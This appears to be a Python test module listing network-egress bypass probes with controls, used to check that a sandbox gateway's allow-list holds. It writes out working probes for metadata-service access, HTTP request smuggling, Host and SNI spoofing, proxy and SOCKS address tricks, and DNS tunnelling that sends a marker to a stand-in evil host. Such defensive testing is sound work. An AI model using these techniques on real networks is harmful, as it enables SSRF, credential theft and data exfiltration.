"""Attacks on a network list: every way around the gateway that we know of, each with a control.

They run in the world of ``tests/egress_world``: a probe runs in a sandbox whose caller is in there, and plainly in the
caller's own place as the control, where an open proxy stands in for the gateway. A probe prints ``ESCAPED`` when it
got what it must not get; what the servers heard counts as well, whatever the probe saw.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.egress_world import API, API6, CALLERS_PORT, EVIL, METADATA, PRIVATE, RESOLVER

LISTED: tuple[object, ...] = ("api.example.com", "flip.example.com")
MARK = "smuggled-words"
"""What a probe carries out through a channel that is none."""

PRELUDE = f"""
import socket, ssl, struct, sys, time
API, API6, EVIL, PRIVATE, METADATA, RESOLVER = {(API, API6, EVIL, PRIVATE, METADATA, RESOLVER)!r}
MARK = {MARK!r}
PROXY = ("127.64.0.2", 3128)
def got(data, *signs):
    text = data.decode("latin-1")
    found = ('"asked"' in text or "raw server" in text) and all(sign in text for sign in signs)
    print("ESCAPED" if found else "got %r" % text[:300])
def take(link, wait=3.0):
    link.settimeout(wait)
    data = b""
    try:
        while piece := link.recv(65536):
            data += piece
            if b'"asked"' in data or b"raw server" in data: link.settimeout(0.5)
    except OSError: pass
    return data
def tcp(address, port, data=b"", tls=None):
    try:
        link = socket.create_connection((address, port), 5)
        if tls is not None: link = secured(link, tls)
        link.sendall(data)
        return take(link)
    except OSError as error:
        return str(error).encode()
def secured(link, name):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    link.settimeout(5)
    return context.wrap_socket(link, server_hostname=name or None)
def get(host, path="/", more=""):
    return ("GET %s HTTP/1.1\\r\\nHost: %s\\r\\n%sConnection: close\\r\\n\\r\\n" % (path, host, more)).encode()
def by_proxy(opening, then=b"", tls=None, answer=b"200"):
    try:
        link = socket.create_connection(PROXY, 5)
        link.settimeout(5)
        link.sendall(opening)
        head = link.recv(4096)
        if answer not in head: return head
        if tls is not None: link = secured(link, tls)
        link.sendall(then)
        return head + take(link)
    except OSError as error:
        return str(error).encode()
def connect_by_proxy(target, then=b"", tls=None):
    return by_proxy(("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (target, target)).encode(), then, tls)
def by_socks(request, then):
    try:
        link = socket.create_connection(PROXY, 5)
        link.settimeout(5)
        link.sendall(b"\\x05\\x01\\x00")
        if link.recv(2) != b"\\x05\\x00": return b"no"
        link.sendall(request)
        answer = link.recv(100)
        if answer[1:2] != b"\\x00": return answer
        link.sendall(then)
        return take(link)
    except OSError as error:
        return str(error).encode()
def resolvers():
    return [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
def question(name, kind=1, flags=0x100, more=b"", counts=(1, 0, 0, 0)):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".") if part)
    return struct.pack("!6H", 7, flags, *counts) + labels + b"\\0" + struct.pack("!2H", kind, 1) + more
def framed(query): return len(query).to_bytes(2, "big") + query
def said(name, port, data):
    link = socket.create_connection((name, port), 5); link.settimeout(5)
    try: link.sendall(data); link.shutdown(socket.SHUT_WR); print(link.recv(100))
    except OSError as error: print(error)
def extension(kind, body): return struct.pack("!2H", kind, len(body)) + body
def server_name(*names):
    rows = b"".join(b"\\0" + struct.pack("!H", len(name)) + name.encode() for name in names)
    return extension(0, struct.pack("!H", len(rows)) + rows)
def hello(*extensions, cut=16384):
    body = b"\\3\\3" + bytes(32) + b"\\0" + b"\\0\\2\\x13\\1" + b"\\1\\0"
    body += struct.pack("!H", len(b"".join(extensions))) + b"".join(extensions)
    body = b"\\1" + len(body).to_bytes(3, "big") + body
    parts = [body[at:at + cut] for at in range(0, len(body), cut)]
    return b"".join(b"\\x16\\3\\1" + struct.pack("!H", len(part)) + part for part in parts)
def datagram(address, port, data):
    link = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    try: link.sendto(data, (address, port))
    except OSError as error: print(error)
    time.sleep(0.1)
"""


@dataclass(frozen=True, kw_only=True)
class EgressAttack:
    """One way around the list."""

    name: str
    what: str
    """What must not happen, as one sentence."""
    probe: str
    network: tuple[object, ...] = LISTED
    control: str = ""
    """Where the probe itself shows nothing without a sandbox; empty: the probe."""
    needs_root: bool = False
    """The control takes root; as an ordinary user only the attack is run."""


def _attack(name: str, what: str, probe: str, *network: object, control: str = "", root: bool = False) -> EgressAttack:
    return EgressAttack(name=name, what=what, probe=probe, network=network or LISTED, control=control, needs_root=root)


NAMES_AND_ADDRESSES = (
    _attack("unlisted-name", "a name that is not listed is fetched", "got(tcp('evil.example.net', 80, get('evil.example.net')))"),
    _attack("unlisted-name-tls", "the same with TLS", "got(tcp('evil.example.net', 443, get('x'), 'evil.example.net'))"),
    _attack("sub-domain-of-a-name", "a name below a listed one is fetched",
            "got(tcp('files.pypi.example.org', 443, get('x'), 'files.pypi.example.org'))", "pypi.example.org"),
    _attack("domain-of-a-wildcard", "the domain of a wildcard, which is not listed itself, is fetched",
            "got(tcp('pypi.example.org', 443, get('x'), 'pypi.example.org'))", "*.pypi.example.org"),
    _attack("unlisted-address", "an address is reached that nobody listed", "got(tcp(EVIL, 80, get('x')))"),
    _attack("address-of-a-listed-name", "a listed name's server is reached by its address", "got(tcp(API, 80, get('x')))"),
    _attack("metadata", "the metadata service is reached", "got(tcp(METADATA, 80, get('x')))"),
    _attack("metadata-in-a-wide-network", "a wide network in the list opens the metadata service",
            "got(tcp(METADATA, 80, get('x')))", "0.0.0.0/0:80"),
    _attack("private-in-a-wide-network", "a wide network in the list opens private addresses",
            "got(tcp(PRIVATE, 5432))", "0.0.0.0/0:5432"),
    _attack("private-address", "a private address is reached", "got(tcp(PRIVATE, 5432))"),
    _attack("beside-a-listed-network", "an address beside a listed network is reached", "got(tcp(PRIVATE, 5432))",
            "10.1.3.0/24:5432"),
    _attack("other-port", "a listed name is reached on a port that is not listed",
            "got(tcp('api.example.com', 8080, get('api.example.com')))"),
    _attack("name-to-private", "a listed name that leads to a private address is fetched",
            "got(tcp('inside.example.com', 80, get('inside.example.com')))", "inside.example.com"),
    _attack("name-to-metadata", "a listed name that leads to the metadata service is fetched",
            "got(tcp('metadata.example.com', 80, get('metadata.example.com')))", "metadata.example.com"),
    _attack("name-to-loopback", "a listed name that leads to the host's loopback reaches a service there",
            f"got(tcp('loop.example.com', {CALLERS_PORT}))", f"loop.example.com:{CALLERS_PORT}"),
    _attack("name-to-the-host", "a listed name that leads to the host's own address reaches a service there",
            f"got(tcp('own.example.com', {CALLERS_PORT}))", f"own.example.com:{CALLERS_PORT}"),
    _attack("host-in-a-wide-network", "a wide network in the list opens the host's own address",
            f"got(tcp('198.18.0.1', {CALLERS_PORT}))", f"0.0.0.0/0:{CALLERS_PORT}"),
    _attack("rebinding", "a name whose address changes leads to a private one",
            "for _ in range(6): print(tcp('flip.example.com', 80, get('flip.example.com')))"),
    _attack("ipv6-address", "an IPv6 address is reached that nobody listed", "got(tcp(API6, 80, get('x')))"),
    _attack("ipv6-private", "a private IPv6 address is reached", "got(tcp('fd12:3456::7', 80, get('x')))"),
    _attack("ipv4-in-ipv6", "an IPv4 address in the form of IPv6 is reached", "got(tcp('::ffff:' + EVIL, 80, get('x')))"),
    _attack("ipv4-in-ipv6-of-a-network", "an IPv4 address in the form of IPv6 is reached through a listed network of IPv6",
            "got(tcp('::ffff:' + METADATA, 80, get('x')))", "[::/0]:80"),
)  # fmt: skip

HTTP = (
    _attack("another-host", "a request for another host goes to a listed one's server",
            "got(tcp('api.example.com', 80, get('evil.example.net')), '\"host\": \"evil')"),
    _attack("absolute-form", "an absolute URL asks a listed host's server for another host",
            "got(tcp('api.example.com', 80, get('api.example.com', 'http://evil.example.net/')), 'evil.example.net')"),
    _attack("two-hosts", "two Host headers, of which the second is another",
            "got(tcp('api.example.com', 80, get('api.example.com', '/', 'Host: evil.example.net\\r\\n')), '\"host\": \"evil')"),
    _attack("keep-alive", "a second request on the connection is for another host",
            "got(tcp('api.example.com', 80, get('api.example.com').replace(b'Connection: close\\r\\n', b'') + "
            "get('evil.example.net')), '\"host\": \"evil')"),
    _attack("keep-alive-later", "the same, after the first answer has come",
            "link = socket.create_connection(('api.example.com', 80), 5); link.settimeout(5)\n"
            "link.sendall(b'GET /1 HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n'); print(link.recv(4096))\n"
            "link.sendall(get('evil.example.net', '/2')); got(take(link), '\"host\": \"evil')"),
    _attack("smuggled-by-length", "a request is hidden in another's body: Content-Length and Transfer-Encoding",
            "hidden = get('evil.example.net')\n"
            "got(tcp('api.example.com', 80, b'POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 0\\r\\n"
            "Transfer-Encoding: chunked\\r\\n\\r\\n' + hidden), '\"host\": \"evil')"),
    _attack("smuggled-by-spelling", "a header that only one of two readers takes for Transfer-Encoding hides a request",
            "hidden = get('evil.example.net')\n"
            "got(tcp('api.example.com', 80, b'POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nTransfer-Encoding : "
            "chunked\\r\\n\\r\\n' + hidden), '\"host\": \"evil')"),
    _attack("two-lengths", "two lengths hide a request",
            "hidden = get('evil.example.net')\n"
            "got(tcp('api.example.com', 80, b'POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: %d\\r\\n"
            "Content-Length: 0\\r\\n\\r\\n' % len(hidden) + hidden), '\"host\": \"evil')"),
    _attack("connect-at-an-address", "CONNECT at a listed name's port opens a tunnel",
            "got(tcp('api.example.com', 80, b'CONNECT evil.example.net:80 HTTP/1.1\\r\\nHost: evil.example.net:80\\r\\n\\r\\n'),"
            " 'CONNECT')"),
    _attack("host-of-another-port", "the Host header names a port that is not listed",
            "got(tcp('api.example.com', 80, get('api.example.com:8080')), ':8080')"),
    _attack("newline-in-host", "a bare line feed hides a second Host",
            "got(tcp('api.example.com', 80, b'GET / HTTP/1.1\\nHost: evil.example.net\\n\\r\\nHost: api.example.com\\r\\n"
            "Connection: close\\r\\n\\r\\n'), 'evil')"),
)  # fmt: skip

PROXY = (
    _attack("connect-unlisted", "CONNECT leads to a name that is not listed",
            "got(connect_by_proxy('evil.example.net:80', get('x')))"),
    _attack("connect-other-port", "CONNECT leads to a port that is not listed",
            "got(connect_by_proxy('api.example.com:8080', get('x')))"),
    _attack("connect-address", "CONNECT leads to an address", "got(connect_by_proxy(EVIL + ':80', get('x')))"),
    _attack("connect-decimal", "CONNECT leads to an address that is written as one number",
            "got(connect_by_proxy(str(int.from_bytes(socket.inet_aton(METADATA), 'big')) + ':80', get('x')))"),
    _attack("connect-octal", "CONNECT leads to an address in octal",
            "got(connect_by_proxy('.'.join('0%o' % n for n in socket.inet_aton(EVIL)) + ':80', get('x')))"),
    _attack("connect-short", "CONNECT leads to an address with fewer than four parts",
            f"got(connect_by_proxy('127.1:{CALLERS_PORT}'))"),
    _attack("connect-mapped", "CONNECT leads to an IPv4 address in the form of IPv6",
            "got(connect_by_proxy('[::ffff:%s]:80' % EVIL, get('x')))"),
    _attack("connect-to-the-proxy", "the proxy is asked to connect to itself, and there to go on",
            "got(connect_by_proxy('127.64.0.2:3128', b'CONNECT evil.example.net:80 HTTP/1.1\\r\\nHost: evil.example.net\\r\\n"
            "\\r\\n' + get('x')), '\"asked\"')"),
    _attack("tunnel-another-host", "in a tunnel to a listed name the request is for another host",
            "got(connect_by_proxy('api.example.com:80', get('evil.example.net')), '\"host\": \"evil')"),
    _attack("tunnel-another-sni", "in a tunnel to a listed name the handshake is for another name",
            "got(connect_by_proxy('api.example.com:443', get('evil.example.net'), 'evil.example.net'), '\"host\": \"evil')"),
    _attack("proxy-absolute", "the proxy fetches a name that is not listed",
            "got(by_proxy(get('evil.example.net', 'http://evil.example.net/') , answer=b'\"asked\"'))"),
    _attack("proxy-absolute-host", "the proxy is given a listed URL, and the server another Host",
            "got(by_proxy(get('evil.example.net', 'http://api.example.com/'), answer=b'200') , '\"host\": \"evil')"),
    _attack("proxy-metadata", "the proxy fetches from the metadata service",
            "got(by_proxy(get(METADATA, 'http://%s/' % METADATA), answer=b'200'))"),
    _attack("socks-name", "SOCKS5 leads to a name that is not listed",
            "got(by_socks(b'\\x05\\x01\\x00\\x03\\x10evil.example.net\\x00\\x50', get('x')))"),
    _attack("socks-address", "SOCKS5 leads to an address",
            "got(by_socks(b'\\x05\\x01\\x00\\x01' + socket.inet_aton(EVIL) + b'\\x00\\x50', get('x')))"),
    _attack("socks-mapped", "SOCKS5 leads to an IPv4 address in the form of IPv6",
            "got(by_socks(b'\\x05\\x01\\x00\\x04' + bytes(10) + b'\\xff\\xff' + socket.inet_aton(EVIL) + b'\\x00\\x50', get('x')))"),
    _attack("socks-another-host", "through SOCKS5 to a listed name the request is for another host",
            "got(by_socks(b'\\x05\\x01\\x00\\x03\\x0fapi.example.com\\x00\\x50', get('evil.example.net')), '\"host\": \"evil')"),
    _attack("socks4", "SOCKS4 leads to an address",
            "got(by_proxy(b'\\x04\\x01\\x00\\x50' + socket.inet_aton(EVIL) + b'\\x00', get('x'), answer=b'\\x5a'))"),
)  # fmt: skip

TLS = (
    _attack("another-sni", "the handshake with a listed name is for another",
            "got(tcp('api.example.com', 443, get('evil.example.net'), 'evil.example.net'))"),
    _attack("no-sni", "the handshake with a listed name names nobody", "got(tcp('api.example.com', 443, get('x'), ''))"),
    _attack("tls-on-http-port", "a handshake for another name on the port of HTTP is passed on",
            "link = socket.create_connection(('api.example.com', 80), 5)\n"
            "incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()\n"
            "context = ssl.create_default_context(); context.check_hostname = False\n"
            "tls = context.wrap_bio(incoming, outgoing, server_hostname='evil.example.net')\n"
            "try: tls.do_handshake()\nexcept ssl.SSLWantReadError: pass\n"
            "link.sendall(outgoing.read()); time.sleep(0.3); print('sent')",
            control="link = socket.create_connection(('evil.example.net', 80), 5); print('sent')"),
    _attack("sni-in-pieces", "a handshake for another name comes in pieces of one byte",
            "incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()\n"
            "context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE\n"
            "tls = context.wrap_bio(incoming, outgoing, server_hostname='evil.example.net')\n"
            "try: tls.do_handshake()\nexcept ssl.SSLWantReadError: pass\n"
            "link = socket.create_connection(('api.example.com', 443), 5); link.settimeout(5)\n"
            "link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n"
            "try:\n for byte in outgoing.read(): link.sendall(bytes([byte]))\n answer = link.recv(100)\n"
            "except OSError as error: answer = b''\n"
            "print('ESCAPED' if answer[:1] == b'\\x16' else answer)"),
)  # fmt: skip

DNS = (
    _attack("dns-to-the-hosts-resolver", "the host's resolver is asked", "datagram(RESOLVER, 53, question(MARK + '.example.net'))"),
    _attack("dns-by-tcp", "the same by TCP", "tcp(RESOLVER, 53, b'\\0\\x30' + question(MARK + '.example.net'))"),
    _attack("dns-tunnel", "what is asked below an unlisted name gets out",
            "for at in resolvers(): datagram(at, 53, question(MARK + '.evil.example.net'))"),
    _attack("dns-tunnel-below-a-listed-name", "what is asked below a listed name gets out",
            "for at in resolvers(): datagram(at, 53, question(MARK + '.api.example.com'))"),
    _attack("dns-tunnel-below-a-wildcard", "what is asked below a wildcard gets out",
            "for at in resolvers(): datagram(at, 53, question(MARK + '.pypi.example.org'))", "*.pypi.example.org"),
    _attack("dns-txt", "a TXT query gets out",
            "for at in resolvers(): datagram(at, 53, question(MARK + '.flip.example.com', 16))"),
    _attack("dns-two-questions", "the second question of a query gets out",
            "for at in resolvers(): datagram(at, 53, question('api.example.com', more=question(MARK + '.example.net')[12:], "
            "counts=(2, 0, 0, 0)))"),
    _attack("dns-option", "what stands in an EDNS option gets out",
            "for at in resolvers(): datagram(at, 53, question('flip.example.com', more=b'\\0' + struct.pack('!2HIH', 41, 4096, 0, "
            "len(MARK) + 4) + struct.pack('!2H', 65001, len(MARK)) + MARK.encode(), counts=(1, 0, 0, 1)))"),
)  # fmt: skip

OTHER = (
    _attack("udp", "a datagram gets out to a listed name's server", "datagram(API, 443, MARK.encode())"),
    _attack("udp-unlisted", "a datagram gets out to another", "datagram(EVIL, 443, MARK.encode())"),
    _attack("udp-in-a-network", "a datagram gets out to a listed network", "datagram(API, 443, MARK.encode())", f"{API}/32:443"),
    _attack("fast-open", "data goes out with the first packet, without a connect",
            "link = socket.socket()\ntry: link.sendto(get('x'), 0x20000000, (EVIL, 80)); got(take(link))\n"
            "except OSError as error: print(error)"),
    _attack("routes", "the sandbox changes its routes",
            "link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
            "route = struct.pack('=8BI', 2, 32, 0, 0, 254, 4, 253, 7, 0) + struct.pack('=HH4B', 8, 1, 203, 0, 113, 77)\n"
            "link.send(struct.pack('=IHHII', 16 + len(route), 24, 0x605, 1, 0) + route)\n"
            "code = struct.unpack_from('=i', link.recv(4096), 16)[0]\nprint('ESCAPED' if code == 0 else code)", root=True),
    _attack("resolvers-port", "the sandbox answers in the resolver's place",
            "import os\nlink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): link.setsockopt(socket.SOL_SOCKET, option, 1)\n"
            "try: link.bind(('127.64.0.1', 53)); print('ESCAPED')\nexcept OSError as error: print(error)", root=True),
    _attack("raw-socket", "a packet of its own making gets out",
            "try: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b'\\x08\\0' + bytes(6), (EVIL, 0)); print('ESCAPED')\n"
            "except OSError as error: print(error)", root=True),
    _attack("packet-socket", "a frame of its own making gets out",
            "try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300).bind(('lo', 0)); print('ESCAPED')\n"
            "except OSError as error: print(error)", root=True),
)  # fmt: skip

BY_ADDRESS = {"host": API, "ports": [80], "methods": ["GET"], "paths": ["/open*"]}
SMALL = {"host": "api.example.com", "ports": [80], "max_bytes_out": 200}

LESS_USUAL = (
    _attack("name-to-mapped", "a listed name leads to a private address in the form of IPv6",
            "got(tcp('mapped.example.com', 5432))", "mapped.example.com:5432"),
    _attack("name-to-ipv6-private", "a listed name leads to a private IPv6 address",
            "got(tcp('inside6.example.com', 80, get('inside6.example.com')))", "inside6.example.com"),
    _attack("connect-hexadecimal", "CONNECT leads to an address in hexadecimal",
            "got(connect_by_proxy('0x' + socket.inet_aton(EVIL).hex() + ':80', get('x')))", "0.0.0.0/0:443"),
    _attack("connect-any-address", "CONNECT to 0.0.0.0 leads to the host itself",
            f"got(connect_by_proxy('0.0.0.0:{CALLERS_PORT}'))", f"0.0.0.0/0:{CALLERS_PORT}"),
    _attack("socks-decimal", "SOCKS5 leads to a name that is an address as one number",
            "text = str(int.from_bytes(socket.inet_aton(METADATA), 'big')).encode()\n"
            "got(by_socks(b'\\x05\\x01\\x00\\x03' + bytes([len(text)]) + text + b'\\x00\\x50', get('x')))", "0.0.0.0/0:80"),
    _attack("socks-udp", "SOCKS5 is asked for datagrams",
            "got(by_socks(b'\\x05\\x03\\x00\\x01' + socket.inet_aton(EVIL) + b'\\x00\\x50', get('x')))"),
    _attack("proxy-keep-alive", "a second request to the proxy is for another host",
            "got(by_proxy(get('api.example.com', 'http://api.example.com/').replace(b'Connection: close\\r\\n', b'') + "
            "get('evil.example.net', 'http://evil.example.net/')), '\"host\": \"evil')"),
    _attack("tunnel-in-a-tunnel", "in a tunnel to a listed name another tunnel is asked for",
            "got(connect_by_proxy('api.example.com:80', b'CONNECT evil.example.net:80 HTTP/1.1\\r\\nHost: evil.example.net:80"
            "\\r\\nConnection: close\\r\\n\\r\\n'), 'CONNECT')"),
    _attack("host-list", "one Host header names two",
            "got(tcp('api.example.com', 80, get('api.example.com, evil.example.net')), 'evil')"),
    _attack("http-0.9", "a request without version and Host is passed on",
            "got(tcp('api.example.com', 80, b'GET /evil\\r\\n\\r\\n'), 'evil')"),
    _attack("http-2", "HTTP/2 in the clear, in which nobody sees the hosts, is passed on",
            "got(tcp('api.example.com', 80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'), 'PRI')"),
    _attack("upgrade-to-http-2", "a listed server is asked to go on in HTTP/2",
            "got(tcp('api.example.com', 80, get('api.example.com', '/', 'Upgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n')), "
            "'h2c')"),
    _attack("neither-tls-nor-http", "other bytes are passed on to the port of HTTP of a name",
            "said('api.example.com', 80, b'\\0\\1' + MARK.encode())"),
    _attack("encrypted-hello", "the name of the server is encrypted (ECH)",
            "said('api.example.com', 80, hello(extension(0xfe0d, MARK.encode() + bytes(20)), server_name('api.example.com')))"),
    _attack("two-names-in-sni", "a handshake names two servers",
            "said('api.example.com', 80, hello(server_name('api.example.com', 'evil.example.net')))"),
    _attack("two-sni", "a handshake names the server twice",
            "said('api.example.com', 80, hello(server_name('api.example.com'), server_name('evil.example.net')))"),
    _attack("sni-in-records", "a handshake for another name is cut into records of one byte",
            "said('api.example.com', 80, hello(server_name('evil.example.net'), cut=1))",
            control="said('evil.example.net', 80, hello(server_name('evil.example.net'), cut=1))"),
    _attack("dns-any", "an ANY query gets out", "for at in resolvers(): datagram(at, 53, question(MARK + '.flip.example.com', 255))"),
    _attack("dns-ptr", "a PTR query gets out", "for at in resolvers(): datagram(at, 53, question(MARK + '.in-addr.arpa', 12))"),
    _attack("dns-https", "a query for the HTTPS record gets out",
            "for at in resolvers(): datagram(at, 53, question(MARK + '.flip.example.com', 65))"),
    _attack("dns-huge-name", "a name that is too long gets out",
            "for at in resolvers(): datagram(at, 53, question('.'.join([MARK] * 20) + '.flip.example.com'))"),
    _attack("dns-no-name", "what stands behind a question for no name gets out",
            "for at in resolvers(): datagram(at, 53, question('', more=MARK.encode()))"),
    _attack("dns-tunnel-by-tcp", "what is asked of the resolver by TCP gets out",
            "for at in resolvers(): tcp(at, 53, framed(question(MARK + '.flip.example.com')))"),
    _attack("inspected-method", "a method that is not listed reaches the server", "got(tcp(API, 80, get(API, '/open').replace("
            "b'GET', b'PUT')), 'PUT')", BY_ADDRESS),
    _attack("inspected-path", "a path that is not listed reaches the server by dots",
            "got(tcp(API, 80, get(API, '/open/%2e%2e/evil')), '/open/%2e%2e')", BY_ADDRESS),
    _attack("inspected-other-path", "a header names another path than the request",
            "got(tcp(API, 80, get(API, '/open', 'X-Original-URL: /evil\\r\\n')), 'x-original-url')", BY_ADDRESS),
    _attack("bytes-by-many-connections", "more bytes get out than a rule allows, by several connections",
            "for path in ('/1' + 'x' * 100, '/2' + 'x' * 100, '/evil'): print(tcp('api.example.com', 80, get('api.example.com', path)))",
            SMALL),
)  # fmt: skip
"""Ways that the others leave out."""

ATTACKS = (*NAMES_AND_ADDRESSES, *HTTP, *PROXY, *TLS, *DNS, *OTHER, *LESS_USUAL)


def is_forbidden(row: list[object]) -> bool:
    """Whether a server heard what only an attack sends: (address, port, what came first)."""
    address, port, first = row
    allowed = (address, port) in ((API, 80), (API, 443))
    asked_for_another = "evil" in str(first) or MARK in str(first)
    by_our_resolver = address == RESOLVER and not asked_for_another
    return asked_for_another or not (allowed or by_our_resolver)
